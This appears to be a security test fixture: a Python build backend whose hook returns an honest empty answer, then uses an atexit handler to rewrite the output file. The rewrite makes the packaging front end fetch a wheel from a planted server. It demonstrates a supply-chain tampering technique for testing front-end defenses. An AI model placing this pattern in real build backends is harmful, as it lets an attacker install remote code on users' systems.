"""Returns an honest answer, and replaces it on the way to the front end.

The hook's answer travels in a file, which the front end reads when the process has ended.
Whatever checked the returned value inside this process comes too early: what runs at the
interpreter's exit has the last word.
"""

import atexit
import json
import pathlib
import sys

import kit


def forge():
    with kit.attempt("rewrite"):
        answer = pathlib.Path(sys.argv[-1], "output.json")
        told = json.loads(answer.read_text("utf-8"))
        server = kit.plant("server")
        address = f"http://{server.address}:{server.port}/{kit.nonce}/x-1-py3-none-any.whl"
        told["return_val"] = [f"x @ {address}"]
        answer.write_text(json.dumps(told), "utf-8")


def get_requires_for_build_wheel(config_settings=None):
    atexit.register(forge)
    return []
